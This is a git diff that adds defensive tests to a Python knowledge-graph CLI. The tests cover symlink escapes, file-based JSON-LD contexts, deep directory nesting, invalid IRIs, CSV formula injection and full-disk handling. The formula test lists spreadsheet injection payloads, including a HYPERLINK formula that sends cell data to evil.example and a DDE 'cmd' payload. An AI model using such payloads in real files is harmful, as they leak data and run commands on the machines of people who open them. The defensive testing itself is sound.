@@ -6,7 +6,9 @@ the graph file is whole or absent; and nothing in the process touched the networ
 """
 from __future__ import annotations
 
+import csv
 import ctypes
+import io
 import json
 import os
 import re
@@ -70,6 +72,16 @@ def directory_link_loop(tmp: Path) -> list[Path]:
     corpus = tmp / "corpus"
     write(corpus / "inner" / "story.txt", "Maria Lopez joined Initech in Lima last year.\n")
     (corpus / "inner" / "back").symlink_to(corpus)  # corpus/inner/back/inner/back/... for ever
+    return [corpus]
+
+
+def link_out_of_the_directory(tmp: Path) -> list[Path]:
+    """corpus/ holds a story, a file link and a directory link that both lead to private/."""
+    corpus, private = tmp / "corpus", tmp / "private"
+    write(corpus / "story.txt", "Maria Lopez sued Initech in Lima.\n")
+    write(private / "notes.txt", "Anna Berg opened a bakery in Turku.\n")
+    (corpus / "notes.txt").symlink_to(private / "notes.txt")
+    (corpus / "elsewhere").symlink_to(private)
     return [corpus]
 
 
@@ -180,6 +192,8 @@ CASES = [
     Case("symbolic link loop", file_link_loop, REFUSED, "link loop"),
     Case("directory link loop", directory_link_loop, WARNED, "link loop",
          check=lambda g: "Maria Lopez" in labels(g)),
+    Case("symbolic link out of the input directory", link_out_of_the_directory, WARNED, "outside",
+         check=lambda g: "Maria Lopez" in labels(g) and "Anna Berg" not in labels(g)),
     Case("named pipe", fifo, REFUSED, "not a regular file"),
     Case("device file", lambda tmp: [Path("/dev/zero")], REFUSED, "not a regular file"),
     Case("unsupported suffix", one("report.docx", b"PK\x03\x04"), REFUSED, "is none of these"),
@@ -193,6 +207,12 @@ OWN_TESTS = {
     "stdin over the size limit": "test_stdin_over_the_size_limit",
     "JSON-LD with a remote @context": "test_a_remote_jsonld_context_is_never_fetched",
     "RDF/XML with an external entity": "test_an_xml_external_entity_is_never_read",
+    "JSON-LD with a file @context": "test_a_jsonld_context_from_a_file_is_never_read",
+    "symbolic link given, or --follow-links": "test_links_the_user_chose_are_followed",
+    "directory nested 1,100 deep": "test_a_directory_nested_1100_deep",
+    "knowledge-base CSV row with an invalid IRI": "test_a_knowledge_base_iri_that_is_not_an_iri",
+    "text that starts like a spreadsheet formula": "test_csv_cells_that_start_like_a_formula",
+    "disk full during a --store build": "test_a_full_disk_is_one_line",
 }
 
 
@@ -314,3 +334,140 @@ def test_an_xml_external_entity_is_never_read(tmp_path, bait):
         assert "TOP-SECRET-VALUE" not in out.read_text(encoding="utf-8")
     assert bait.hits == []
     assert result.exit_code in (0, 2) and (result.exit_code == 0 or str(evil) in result.stderr)
+
+
+def test_a_jsonld_context_from_a_file_is_never_read(tmp_path):
+    """rdflib reads a context named by file:// IRI or by path from disk: only inline ones are read."""
+    secret = write(tmp_path / "secret.jsonld", '{"@context": {"name": "http://www.w3.org/2000/01/rdf-schema#label"}}')
+    contexts = [secret.as_uri(), str(secret), "secret.jsonld", [secret.as_uri()], {"@import": secret.as_uri()}]
+    good = write(tmp_path / "good.txt", GOOD)
+    for number, context in enumerate(contexts):
+        evil = write(tmp_path / f"evil{number}.jsonld",
+                     json.dumps({"@context": context, "@id": "http://example.org/x", "name": "Acme Foods"}))
+        for command in (["query", "SELECT * WHERE { ?s ?p ?o }", "--data", str(evil)],
+                        ["build", str(good), "--kb", str(evil), "-o", str(tmp_path / "g.trig")]):
+            result = CliRunner().invoke(app, command)
+            assert result.exit_code in (1, 2), result.output
+            lines = result.stderr.strip().splitlines()
+            assert len(lines) == 1 and str(evil) in lines[0] and "an @context outside the file" in lines[0], lines
+    assert not (tmp_path / "g.trig").exists()
+    inline = write(tmp_path / "inline.jsonld", json.dumps(
+        {"@context": {"name": "http://www.w3.org/2000/01/rdf-schema#label"}, "@id": "http://example.org/x",
+         "name": "X"}))
+    query = "SELECT ?o WHERE { <http://example.org/x> rdfs:label ?o }"
+    result = CliRunner().invoke(app, ["query", query, "--data", str(inline), "-f", "csv"])
+    assert result.exit_code == 0 and result.stdout.split() == ["o", "X"]
+
+
+def test_links_the_user_chose_are_followed(tmp_path):
+    """A link named on the command line is followed; so are links out of a directory with --follow-links."""
+    corpus = link_out_of_the_directory(tmp_path)[0]
+    good = write(tmp_path / "good.txt", GOOD)
+
+    def build(*args: str) -> tuple[str, set[str]]:
+        out = tmp_path / "out.trig"
+        result = CliRunner().invoke(app, ["build", str(good), *args, "-o", str(out)])
+        assert result.exit_code == 0, result.output
+        graph = Dataset(default_union=True)
+        graph.parse(out, format="trig")
+        return result.stderr.strip(), labels(graph)
+
+    said, found = build(str(corpus), "--follow-links")
+    assert said == "" and {"Maria Lopez", "Anna Berg"} <= found
+    said, found = build(str(corpus), str(corpus / "notes.txt"))  # given: read; met in the walk: still skipped
+    assert "Anna Berg" in found and said and all("outside" in line for line in said.splitlines())
+
+
+def test_a_directory_nested_1100_deep(tmp_path):
+    """Deeper than Python's recursion limit: the walk must not recurse. Built into a store, beside a
+    good file, as the report had it (0 documents then)."""
+    good = write(tmp_path / "good.txt", GOOD)
+    deep = tmp_path / "deep"
+    deep.mkdir()
+    bottom = deep
+    for _ in range(1_100):  # one level at a time: Path.mkdir(parents=True) itself recurses
+        bottom = bottom / "d"
+        bottom.mkdir()
+    write(bottom / "story.txt", "Maria Lopez sued Initech in Lima.\n")
+    store = tmp_path / "store"
+    try:
+        result = CliRunner().invoke(app, ["build", str(good), str(deep), "--store", str(store)])
+        assert result.exit_code == 0, result.output
+        assert result.stderr.strip() == "" and result.stdout.startswith("2 document(s) built"), result.output
+        names = "SELECT ?n WHERE { ?e rdfs:label ?n }"
+        query = CliRunner().invoke(app, ["query", names, "--store", str(store), "-f", "csv"])
+        assert {"Acme Foods", "Maria Lopez"} <= set(query.stdout.splitlines())
+    finally:  # shutil.rmtree recurses too: take the tree down from the bottom
+        (bottom / "story.txt").unlink(missing_ok=True)
+        while bottom != tmp_path:
+            bottom.rmdir()
+            bottom = bottom.parent
+
+
+@pytest.mark.parametrize("iri", ["http://example.org/acme foods", "http://example.org/<acme>", 'http://example.org/"a"',
+                                 "http://example.org/{a}", "http://example.org/a|b", "http://example.org/a\\b",
+                                 "http://example.org/a^b", "http://example.org/a`b", "http://example.org/a\x01b",
+                                 "example.org/acme", "http://example.org/a%zz"])
+def test_a_knowledge_base_iri_that_is_not_an_iri(tmp_path, iri):
+    """Refused when the file is read, before any article: one line with the file, the line and what to do."""
+    kb = tmp_path / "kb.csv"
+    with kb.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerows([["name", "iri"], ["Globex", "http://example.org/globex"], ["Acme Foods", iri]])
+    out, good = tmp_path / "g.trig", write(tmp_path / "good.txt", GOOD)
+    result = CliRunner().invoke(app, ["build", str(good), "--kb", str(kb), "-o", str(out)])
+    assert result.exit_code == 2, result.output
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith(f"error: {kb} line 3: "), lines
+    assert "IRI" in lines[0] and ("percent-encode" in lines[0] or "absolute IRI" in lines[0]), lines
+    assert not out.exists()
+
+
+def test_csv_cells_that_start_like_a_formula(tmp_path):
+    """An article's text that starts like a formula reaches `kg query -f csv` with a leading ' (a
+    spreadsheet shows it as text); plain numbers stay numbers; `-f csv-raw` and `-f json` are exact."""
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\tx", "\rx"]
+    graph = tmp_path / "g.ttl"
+    labels_ttl = ", ".join(json.dumps(a) for a in [*attacks, "-5", "+1.5e3", "plain"])
+    write(graph, f"<http://example.org/a> <http://www.w3.org/2000/01/rdf-schema#label> {labels_ttl} ;"
+                 " <http://www.w3.org/2000/01/rdf-schema#comment> -7 .\n")
+    query = "SELECT ?o WHERE { <http://example.org/a> ?p ?o }"
+
+    def cells(fmt: str) -> set[str]:
+        result = CliRunner().invoke(app, ["query", query, "--data", str(graph), "-f", fmt])
+        assert result.exit_code == 0, result.output
+        return {row[0] for row in list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]}
+
+    assert cells("csv") == {"'" + a for a in attacks} | {"-5", "+1.5e3", "plain", "-7"}
+    assert cells("csv-raw") == set(attacks) | {"-5", "+1.5e3", "plain", "-7"}
+    answer = CliRunner().invoke(app, ["query", query, "--data", str(graph), "-f", "json"])
+    values = {b["o"]["value"] for b in json.loads(answer.stdout)["results"]["bindings"]}
+    assert set(attacks) <= values
+
+
+def limit_file_size() -> None:
+    """In the child: no file may grow past 2 MB, and a write past it fails (EFBIG) instead of killing
+    the process: a full disk, as the real store's writes meet it."""
+    import resource
+    import signal
+
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (2 * 1024 * 1024, 2 * 1024 * 1024))
+
+
+def test_a_full_disk_is_one_line(tmp_path):
+    """The write fails, then close() flushes again: one line, no traceback; the store still opens."""
+    articles = write(tmp_path / "many.jsonl", jsonl(*(
+        {"text": f"Maria Lopez{i} sued Initech{i} in Lima, the company said. " + "Anna Berg opened a bakery. " * 400}
+        for i in range(60))))
+    store = tmp_path / "store"
+    proc = subprocess.run([sys.executable, "-m", "kg.cli", "build", str(articles), "--store", str(store)],
+                          capture_output=True, text=True, timeout=600, preexec_fn=limit_file_size)
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith(f"error: {store}: cannot be written ("), proc.stderr
+    stats = subprocess.run([sys.executable, "-m", "kg.cli", "stats", "--store", str(store), "--json"],
+                           capture_output=True, text=True, timeout=300)
+    assert stats.returncode == 0, stats.stderr
+    assert 0 <= json.loads(stats.stdout)["documents"] < 60
